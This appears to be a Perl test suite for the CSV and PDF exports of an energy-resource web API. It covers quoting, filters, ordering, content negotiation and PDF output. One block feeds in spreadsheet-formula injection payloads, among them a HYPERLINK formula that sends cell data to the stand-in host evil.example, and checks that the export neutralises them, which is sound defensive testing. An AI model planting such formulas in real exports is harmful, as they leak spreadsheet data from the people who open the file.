# CSV and PDF exports (docs/decisions.md §2.7 with decision D1): real RFC 4180 CSV
# parsed back with Text::CSV and compared with the database, filters and
# ordering applied, content negotiation, and a PDF whose text pdftotext reads.
use strict;
use warnings FATAL => 'all';

use FindBin;
use lib "$FindBin::Bin/lib";

use Apache::Test qw(-withtestmore);
use Apache::TestRequest ();
use File::Temp ();
use Text::CSV ();
use EaTest qw(db reset_db seed_fixture get_json);

plan tests => 41;

reset_db();
my $f = seed_fixture();
db()->do(q{UPDATE core_resourcemetric SET created_at = '2025-12-03 16:00:00+00'::timestamptz + id * interval '1 second'});

sub csv_rows {
    my ($body) = @_;
    my $csv = Text::CSV->new({ binary => 1, eol => "\r\n" });
    open my $fh, '<:encoding(UTF-8)', \$body or die;
    my @rows;
    while (my $row = $csv->getline($fh)) {
        push @rows, $row;
    }
    return \@rows;
}

# hydro sites: the contract's example row, exact bytes
{
    my $res = Apache::TestRequest::GET('/api/hydro-sites/export/');
    is $res->code, 200, 'hydro-sites export: 200';
    is $res->header('Content-Type'), 'text/csv; charset=utf-8', 'hydro-sites export: text/csv; charset=utf-8';
    is $res->header('Content-Disposition'), 'attachment; filename="hydro_sites.csv"', 'hydro-sites export: filename';
    is $res->content,
        "id,name,country_iso3,region,latitude,longitude,head_m,storage_capacity_mwh,turbine_capacity_mw,status\r\n"
      . "$f->{site},Site A,BEN,Atlantique,,,100.00,50.00,,identified\r\n",
        'hydro-sites export: header and row, CRLF, empty fields for NULL';
    is $res->header('Allow'), 'GET, HEAD, OPTIONS', 'hydro-sites export: Allow';
}

# metrics: -created_at by default; the contract's columns
{
    my $res = Apache::TestRequest::GET('/api/resource-metrics/export/');
    is $res->code, 200, 'metrics export: 200';
    is $res->header('Content-Disposition'), 'attachment; filename="resource_metrics.csv"', 'metrics export: filename';
    is $res->content,
        "country_iso3,resource_type,metric,value,unit,year\r\n"
      . "BEN,solar,potential,223.4000,kWh/m2,2024\r\nBEN,solar,potential,123.4000,kWh/m2,2023\r\n",
        'metrics export: newest first, decimals at scale 4';
    $res = Apache::TestRequest::GET('/api/resource-metrics/export/?ordering=year&year=2023');
    is $res->content, "country_iso3,resource_type,metric,value,unit,year\r\nBEN,solar,potential,123.4000,kWh/m2,2023\r\n",
        'metrics export: filters apply';
}

# quoting: commas, quotes, newlines, UTF-8 come back intact through a CSV parser
{
    my $name = qq{Dam, "Big"\r\nNorth \x{e9}t\x{e9}};
    db()->do(q{INSERT INTO core_hydrosite (created_at, updated_at, name, country_id, status, notes, properties)
               VALUES (now(), now(), ?, ?, 'study', '', '{}')}, undef, $name, $f->{country});
    my $res = Apache::TestRequest::GET('/api/hydro-sites/export/?status=study');
    my $rows = csv_rows($res->content);
    is scalar @$rows, 2, 'quoting: header and one row';
    is $rows->[1][1], $name, 'quoting: the name survives a real CSV parser';
    is $rows->[1][3], '', 'quoting: no region → empty field';
    like $res->content, qr/"Dam, ""Big""\r\nNorth/, 'quoting: doubled quotes inside a quoted field';
}

# CSV injection (docs/security.md): a cell a spreadsheet would run as a formula
# starts with an apostrophe; negative numbers stay numbers
{
    my @names = ('=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+2', '-2+3', '@SUM(A1:A2)', "\tTAB", "\rCR");
    for my $n (@names) {
        db()->do(q{INSERT INTO core_hydrosite (created_at, updated_at, name, country_id, status, notes, properties, latitude)
                   VALUES (now(), now(), ?, ?, 'construction', '', '{}', -12.5)}, undef, $n, $f->{country});
    }
    my $res = Apache::TestRequest::GET('/api/hydro-sites/export/?status=construction&ordering=name');
    my $rows = csv_rows($res->content);
    shift @$rows;
    my %got = map { $_->[1] => 1 } @$rows;
    is_deeply [sort keys %got], [sort map { "'$_" } @names], 'CSV injection: every formula-like name gets a leading apostrophe';
    is_deeply [map { $_->[4] } @$rows], [('-12.500000') x @names], 'CSV injection: negative numbers are left as numbers';
    like $res->content, qr/\r\n\d+,"'=HYPERLINK\(""http/, 'CSV injection: the guarded cell is quoted';
    unlike $res->content, qr/(^|,)(?:[=+\@]|-[^0-9])/m, 'CSV injection: no unquoted cell starts with = + @ or - and a non-digit';
    my ($r2) = Apache::TestRequest::GET('/api/hydro-sites/?status=construction&search=HYPERLINK');
    like $r2->content, qr/"name":"=HYPERLINK/, 'CSV injection: the JSON API keeps the name as stored';
    db()->do(q{DELETE FROM core_hydrosite WHERE status = 'construction'});
}

# filters, search, ordering, errors, negotiation
{
    my $res = Apache::TestRequest::GET('/api/hydro-sites/export/?country__iso3=XXX');
    is $res->content, "id,name,country_iso3,region,latitude,longitude,head_m,storage_capacity_mwh,turbine_capacity_mw,status\r\n",
        'empty set: the header line alone';
    my ($r2, $d) = get_json('/api/hydro-sites/export/?status=nope');
    is $r2->code, 400, 'invalid filter: 400';
    is_deeply $d, { status => ['Select a valid choice. nope is not one of the available choices.'] }, 'invalid filter: body';
    is $r2->header('Content-Type'), 'application/json', 'invalid filter: JSON, not CSV';
    $res = Apache::TestRequest::GET('/api/hydro-sites/export/', Accept => 'text/csv');
    is $res->code, 200, 'Accept: text/csv → 200 (D1)';
    $res = Apache::TestRequest::GET('/api/hydro-sites/export/', Accept => 'application/pdf');
    is $res->code, 406, 'Accept: application/pdf on the CSV export → 406';
    $res = Apache::TestRequest::HEAD('/api/hydro-sites/export/');
    is $res->code, 200, 'HEAD: 200';
    is $res->content, '', 'HEAD: no body';
    $res = Apache::TestRequest::POST('/api/hydro-sites/export/', content => '');
    is $res->code, 405, 'POST: 405';
}

# a larger export, parsed back and compared with the database row by row
{
    db()->do(q{INSERT INTO core_hydrosite (created_at, updated_at, name, country_id, status, notes, properties,
                                           head_m, storage_capacity_mwh, latitude)
               SELECT now(), now(), 'Gen ' || g, ?, 'operational', '', '{}', (g % 900) + 0.25, g * 1.5,
                      CASE WHEN g % 3 = 0 THEN NULL ELSE -(g % 90) + 0.123456 END
               FROM generate_series(1, 20000) g}, undef, $f->{country});
    my $res = Apache::TestRequest::GET('/api/hydro-sites/export/?status=operational&ordering=-head_m');
    my $rows = csv_rows($res->content);
    shift @$rows;
    is scalar @$rows, 20000, 'large export: every row';
    my $db = db()->selectall_arrayref(q{SELECT id, name, head_m::text, storage_capacity_mwh::text, coalesce(latitude::text, '')
                                        FROM core_hydrosite t WHERE status = 'operational' ORDER BY t.head_m DESC, t.id DESC});
    my $same = 1;
    for my $i (0 .. $#$db) {
        my ($id, $name, $head, $storage, $lat) = @{ $db->[$i] };
        my $r = $rows->[$i];
        next if $r->[0] eq $id && $r->[1] eq $name && $r->[6] eq $head
                && $r->[7] eq $storage && $r->[4] eq $lat;
        diag "row $i: csv [@$r] db [@{ $db->[$i] }]";
        $same = 0;
        last;
    }
    ok $same, 'large export: the same rows, values and order as the database';
}

# PDF: every row (not only 40), the title, a chart, several pages
{
    db()->do(q{INSERT INTO core_resourcemetric (created_at, updated_at, dataset_id, country_id, resource_type, metric, value, unit, year)
               SELECT now(), now(), ?, ?, (ARRAY['wind','hydro'])[1 + g % 2], 'm' || g, g, 'MW', CASE WHEN g % 5 = 0 THEN NULL ELSE 2000 + g END
               FROM generate_series(1, 100) g}, undef, $f->{resource_dataset}, $f->{country});
    my $res = Apache::TestRequest::GET('/api/resource-metrics/export_pdf/?ordering=value');
    is $res->code, 200, 'PDF: 200';
    is $res->header('Content-Type'), 'application/pdf', 'PDF: Content-Type exactly application/pdf';
    is $res->header('Content-Disposition'), 'attachment; filename="resource_metrics.pdf"', 'PDF: filename';
    like $res->content, qr/\A%PDF-/, 'PDF: a PDF document';
    my $tmp = File::Temp->new(SUFFIX => '.pdf');
    binmode $tmp;
    print $tmp $res->content;
    close $tmp;
    my $text = `pdftotext -layout $tmp - 2>/dev/null`;
    my $info = `pdfinfo $tmp 2>/dev/null`;
    like $text, qr/Resource Metrics Summary/, 'PDF: title';
    like $text, qr/Country \| Type \| Metric \| Value \| Unit \| Year/, 'PDF: header line';
    like $text, qr/BEN \| solar \| potential \| 223\.4000 \| kWh\/m2 \| 2024/, 'PDF: a fixture row';
    like $text, qr/BEN \| wind \| m100 \| 100\.0000 \| MW \|\s*$/m, 'PDF: a NULL year prints as nothing'
        or diag(join "\n", grep { /m100 / } split /\n/, $text);
    my $found = grep { $text =~ /\| m$_ \|/ } 1 .. 100;
    is $found, 100, 'PDF: all 100 generated rows, not only the first 40';
    like $text, qr/Total value per resource type/, 'PDF: the chart of totals';
    like $info, qr/^Title:\s+Resource Metrics Summary$/m, 'PDF: document title metadata';
    my ($pages) = $info =~ /^Pages:\s+(\d+)/m;
    ok $pages && $pages >= 3, "PDF: paged ($pages pages for 102 rows)";
}
